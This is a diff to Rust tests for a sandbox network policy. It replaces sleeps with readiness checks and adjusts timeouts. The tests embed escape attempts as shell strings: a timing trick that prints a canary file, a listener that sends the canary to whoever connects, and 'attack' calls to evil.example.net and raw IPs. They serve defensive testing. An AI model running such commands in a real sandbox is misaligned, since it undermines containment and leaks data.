@@ -3,9 +3,10 @@
 use crate::harness::attempt::Attempt;
 use crate::harness::canary::random_name;
 use crate::harness::online::{Tricks, egress_of, escape_online, must_be_recorded, policy, set_policy};
+use crate::harness::patience::wait_for_file;
 use crate::harness::service::Service;
 use crate::harness::{Run, Scene, each_online, host};
-use std::time::Duration;
+use std::io::BufRead;
 
 /// What the policy of these tests allows.
 const ALLOWED: &[&str] = &["web.example.com:80,443", "*.wild.example.com:*"];
@@ -37,7 +38,7 @@ fn quic_is_refused_at_once_so_that_clients_fall_back() {
     let hello = r"\xc3\x00\x00\x00\x01\x08lobsters\x00\x00\x44\xb0\*1180:a";
     let slow = "attack dgram $(attack ask udp - A web.example.com | sed -n 's/^GOT //p'):443";
     let trick = format!(
-        "begin=$(date +%s%N); {slow} '{hello}'; end=$(date +%s%N); [ $((end - begin)) -gt 1000000000 ] && cat canary"
+        "begin=$(date +%s%N); {slow} '{hello}'; end=$(date +%s%N); [ $((end - begin)) -gt 20000000000 ] && cat canary"
     );
     Tricks::new(ALLOWED, &[(&trick, "443")]).canary_in("canary").are_refused();
 }
@@ -153,7 +154,7 @@ fn connected_socket_is_not_handed_in_by_a_listener_outside() {
 fn server(scene: &Scene) -> Run {
     scene.write(&scene.at_work("canary"), scene.canary.text());
     Run::shell(
-        "/usr/bin/python3 -c \"\nimport socket\nserver = socket.create_server(('', 7777))\nprint('listening', flush=True)\nserver.settimeout(20)\n\
+        "/usr/bin/python3 -c \"\nimport socket\nserver = socket.create_server(('', 7777))\nprint('listening', flush=True)\nserver.settimeout(120)\n\
          peer, _ = server.accept()\npeer.sendall(open('canary', 'rb').read())\n\"",
     )
 }
@@ -169,11 +170,12 @@ fn listener_of_another_sandbox_cannot_be_reached() {
         }
         set_policy(scene, &policy(&["web.example.com:80,7777"]));
         let mut other = scene.start_sandboxed(&server(scene));
-        std::thread::sleep(Duration::from_millis(800));
+        let said = std::io::BufReader::new(other.stdout.take().expect("stdout is piped"));
+        let listens = said.lines().map_while(Result::ok).any(|line| line == "listening");
         let outcome = scene.sandboxed(&attempt);
         drop(other.kill());
         drop(other.wait());
-        assert!(outcome.out().contains("TRY"), "{outcome}");
+        assert!(listens && outcome.out().contains("TRY"), "{outcome}");
         assert!(!scene.canary.is_in(&outcome.stdout), "as {}: {outcome}", scene.identity.name());
         must_be_recorded(scene, &outcome, "7777");
     });
@@ -210,10 +212,7 @@ fn end_of_egress_closes_the_network_and_does_not_open_it() {
              ~/.local/bin/attack fetch evil.example.net 80 /; ~/.local/bin/attack say 45.33.32.156:8080 x; ~/.local/bin/attack ask udp 6.6.6.6 A evil.example.net; echo over"
         );
         let child = scene.start_sandboxed(&Run::shell(&script));
-        let deadline = std::time::Instant::now() + Duration::from_secs(20);
-        while !scene.at_work("ready").exists() && std::time::Instant::now() < deadline {
-            std::thread::sleep(Duration::from_millis(20));
-        }
+        wait_for_file(scene, "ready");
         let serving = egress_of(scene);
         for process in &serving {
             let _ended = nix::sys::signal::kill(*process, nix::sys::signal::Signal::SIGKILL);
